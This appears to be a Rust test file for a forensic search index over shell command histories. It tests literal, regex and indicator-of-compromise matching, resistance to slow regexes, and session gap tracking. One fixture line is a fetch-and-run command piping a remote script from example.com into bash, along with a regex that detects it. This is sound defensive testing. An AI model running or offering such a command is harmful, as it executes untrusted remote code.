//! Literals and regular expressions find what looking into every text finds, whatever stands in it.

use std::collections::BTreeSet;

use jiff::tz::TimeZone;
use regex::RegexBuilder;
use whoran_index::{Index, Indicators, Query, SearchOptions, quote_literal, quote_regex};
use whoran_model::CommandRecord;

use crate::given::{indexed, record, session, sid};
use crate::searching::rand_like::Dice;

/// What texts are made of: signs that join and signs that do not, letters that fold into several and into others, runs
/// around the longest word, white space of every kind.
const PIECES: &[&str] = &[
    "a",
    "ab",
    "abc",
    "A",
    "B",
    "=",
    "==",
    "/",
    "|",
    "-",
    " ",
    "  ",
    "\n",
    "\t",
    "\u{a0}",
    "\u{3000}",
    "日",
    "本",
    "語a",
    "é",
    "É",
    "ß",
    "ẞ",
    "İ",
    "i̇",
    "ſ",
    "s",
    "S",
    "K",
    "k",
    "Σ",
    "ς",
    "\u{307}",
    "\u{0}",
    "\u{1b}[31m",
    "😀",
    "\u{200b}",
    "'",
    "\\",
    "\"",
    "\u{202e}",
    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "0123456789abcdef",
    "10.0.0.1",
];

fn hostile(count: u32) -> Vec<CommandRecord> {
    let mut dice = Dice(7);
    let text = |dice: &mut Dice| {
        let pieces = dice.roll(14);
        (0..pieces).map(|_| dice.pick(PIECES)).collect::<String>()
    };
    let mut records = Vec::new();
    for seq in 0..count {
        let mut r = record(&format!("s{}", seq % 7), seq, &text(&mut dice));
        r.command.output = text(&mut dice);
        records.push(r);
    }
    records
}

fn found(index: &Index, text: &str) -> (BTreeSet<String>, u64) {
    let query = Query::parse(text, &TimeZone::UTC).unwrap_or_else(|e| panic!("{text:?}: {e}"));
    let hits = index.search(&query, &SearchOptions::default()).unwrap();
    let (total, scanned) = (hits.total().unwrap(), hits.scanned());
    let ids: BTreeSet<_> = hits.map(|hit| hit.unwrap().id).collect();
    assert_eq!(ids.len() as u64, total, "{text:?}");
    (ids, scanned)
}

fn expected(records: &[CommandRecord], place: &str, holds: impl Fn(&str) -> bool) -> BTreeSet<String> {
    let meets = |r: &&CommandRecord| {
        place != "output" && holds(&r.command.command) || place != "command" && holds(&r.command.output)
    };
    records.iter().filter(meets).map(|r| r.id.clone()).collect()
}

#[test]
fn any_part_of_any_text_is_found() {
    let records = hostile(400);
    let dir = tempfile::tempdir().unwrap();
    let index = indexed(dir.path(), &records);
    let mut dice = Dice(3);
    let mut read = 0;
    for round in 0..240 {
        let record = &records[dice.roll(records.len())].command;
        let whole = if dice.roll(2) == 0 { &record.command } else { &record.output };
        let ends: Vec<_> = whole.char_indices().map(|(i, _)| i).chain([whole.len()]).collect();
        let (a, b) = (dice.roll(ends.len()), dice.roll(ends.len()));
        let part = &whole[ends[a.min(b)]..ends[a.max(b)]];
        if part.is_empty() {
            continue;
        }
        let place = ["", "command", "output"][round % 3];
        let prefix = if place.is_empty() { String::new() } else { format!("{place}:") };
        let (ids, scanned) = found(&index, &format!("{prefix}{}", quote_literal(part)));
        assert_eq!(ids, expected(&records, place, |text| text.contains(part)), "{part:?}");
        read += scanned;
        // The same in any letter case, as an expression, and what a letter folds to is the engine's business.
        let pattern = format!("(?i){}", regex::escape(part));
        let naive = RegexBuilder::new(&pattern).build().unwrap();
        let (ids, _) = found(&index, &format!("{prefix}{}", quote_regex(&pattern)));
        assert_eq!(ids, expected(&records, place, |text| naive.is_match(text)), "{pattern:?}");
    }
    assert!(read < 240 * 200, "{read} commands were read; the index tells apart less than it could");
}

#[test]
fn any_expression_finds_what_it_matches() {
    let records = hostile(300);
    let dir = tempfile::tempdir().unwrap();
    let index = indexed(dir.path(), &records);
    let mut dice = Dice(9);
    let mut some = 0;
    for _ in 0..160 {
        let mut pattern = String::new();
        for _ in 0..1 + dice.roll(4) {
            let piece = regex::escape(dice.pick(PIECES));
            pattern += &match dice.roll(9) {
                0 => format!("(?:{piece})?"),
                1 => format!("(?:{piece}){{2,3}}"),
                2 => format!("(?:{piece}|{})", regex::escape(dice.pick(PIECES))),
                3 => format!("{piece}.*"),
                4 => format!("(?i:{piece})+"),
                5 => format!(r"{piece}\s*"),
                6 => format!(r"\b{piece}"),
                7 => format!("[ab{}]", ["=", "é", "ſ", "^/", "/"][dice.roll(5)]),
                _ => piece,
            };
        }
        let naive = RegexBuilder::new(&pattern).multi_line(true).build().unwrap();
        let expected = expected(&records, "", |text| naive.is_match(text));
        some += usize::from(!expected.is_empty() && expected.len() < records.len());
        assert_eq!(found(&index, &quote_regex(&pattern)).0, expected, "{pattern:?}");
    }
    assert!(some > 40, "only {some} expressions told texts apart");
}

#[test]
fn only_what_may_hold_it_is_read() {
    let mut records: Vec<_> =
        (0..2000).map(|n| record("s", n, &format!("echo {n} > /tmp/file{n}"))).collect();
    records[7].command.command = "curl -s http://example.com/x.sh | bash".into();
    records[8].command.output = "Permission denied (publickey).".into();
    let dir = tempfile::tempdir().unwrap();
    let index = indexed(dir.path(), &records);
    for (text, hits, most) in [
        (r"/curl .*\|\s*(ba)?sh/", 1, 1),
        ("'x.sh | ba'", 1, 1),
        ("'mission den'", 1, 1),
        ("'le1999'", 1, 1),
        ("command:'mission'", 0, 0),
        ("NOT 'echo'", 1, 2000),
        (r"/\d{4} >/", 1000, 2000),
        ("session:other /x*/", 0, 0),
    ] {
        let (ids, scanned) = found(&index, text);
        assert_eq!(ids.len(), hits, "{text}");
        assert!(scanned <= most, "{text}: {scanned}");
    }
    assert_eq!(found(&index, "curl").1, 0, "words are told by the index alone");
}

#[test]
fn an_expression_that_tries_to_take_for_ever_does_not() {
    let bait = "a".repeat(60_000);
    let mut with_output = record("s", 0, &format!("echo {bait}"));
    with_output.command.output = bait;
    let dir = tempfile::tempdir().unwrap();
    let index = indexed(dir.path(), &[with_output]);
    for text in ["/(a+)+$b/", "/(a|a)*b/", "/(a*)*c$/", "/(?:a?){60}a{60}b/"] {
        assert_eq!(found(&index, text).0.len(), 0, "{text}");
    }
}

#[test]
fn gaps_are_of_sessions_and_of_their_logs() {
    use whoran_index::{LogDone, Writer};
    use whoran_model::{Diagnostic, DiagnosticKind, LogId};
    let dir = tempfile::tempdir().unwrap();
    let writer = Writer::open(dir.path(), crate::given::OPTIONS).unwrap();
    let diagnostic = |kind| Diagnostic { log: LogId::new("x"), at: None, session: None, kind };
    for (id, kind) in [
        ("cut", Some(DiagnosticKind::MissingTrailer)),
        ("whole", Some(DiagnosticKind::HistoryOff)),
        ("damaged", None),
    ] {
        let commands = [record(id, 0, "id")];
        let mut session = session(id, &commands);
        session.diagnostics.extend(kind.map(diagnostic));
        writer.replace_session(&session, &commands).unwrap();
    }
    let log = LogDone {
        sessions: vec![sid("damaged")],
        diagnostics: vec![diagnostic(DiagnosticKind::DamagedCompression("cut".into()))],
        ..crate::given::log("x.gz", "1", &[])
    };
    writer.put_log(&log).unwrap();
    writer.commit(Default::default()).unwrap();
    let index = Index::open(dir.path()).unwrap();
    let sessions = |text: &str| {
        let query = Query::parse(text, &TimeZone::UTC).unwrap();
        let options = SearchOptions { order: whoran_index::Order::Session, ..Default::default() };
        let hits = index.search(&query, &options).unwrap();
        hits.map(|hit| hit.unwrap().session_id.to_string()).collect::<Vec<_>>().join(" ")
    };
    assert_eq!(sessions("has:gap"), "cut damaged");
    assert_eq!(sessions("NOT has:gap"), "whole");
}

#[test]
fn indicators_are_found_as_phrases_are() {
    let mut records = hostile(300);
    let mut dice = Dice(21);
    for n in 0..200 {
        let address = format!("10.{}.0.{}", dice.roll(3), dice.roll(40));
        let mut r = record("net", n, &format!("ping -c1 {address} # {n}"));
        r.command.output = format!("from 10.0.{}.1: icmp_seq=1\nEVIL{}.example", dice.roll(9), dice.roll(30));
        records.push(r);
    }
    let dir = tempfile::tempdir().unwrap();
    let index = indexed(dir.path(), &records);
    let mut list: Vec<String> = (0..60).map(|n| format!("10.{}.0.{n}", n % 4)).collect();
    list.extend((0..40).map(|n| format!("evil{n}.EXAMPLE")));
    list.extend(["abc", "日", "ping -c1 10", "/|", "no such thing"].map(str::to_owned));
    let indicators = Indicators::read(&list.join("\n"), |_| None).unwrap();
    // Each on its own, as the language finds phrases.
    let mut expected: std::collections::BTreeMap<String, Vec<&str>> = Default::default();
    for text in &list {
        for id in found(&index, &format!("\"{text}\"")).0 {
            expected.entry(id).or_default().push(text);
        }
    }
    assert!(expected.len() > 100 && expected.len() < records.len() - 50);
    let hits = index.search(&Query::from(indicators.clone()), &SearchOptions::default()).unwrap();
    assert!(hits.total().unwrap() < hits.scanned() + 1 && hits.scanned() < records.len() as u64);
    let hits: std::collections::BTreeMap<_, _> = hits
        .map(|hit| hit.unwrap())
        .map(|hit| {
            (hit.id.clone(), indicators.found_in(&hit).into_iter().map(str::to_owned).collect::<Vec<_>>())
        })
        .collect();
    assert_eq!(hits.keys().collect::<Vec<_>>(), expected.keys().collect::<Vec<_>>());
    for (id, found) in &hits {
        assert_eq!(found, &expected[id], "{id}");
    }
    let not = Query::all().and_not(indicators.into());
    assert_eq!(
        index.search(&not, &SearchOptions::default()).unwrap().total().unwrap() as usize,
        records.len() - hits.len()
    );
}
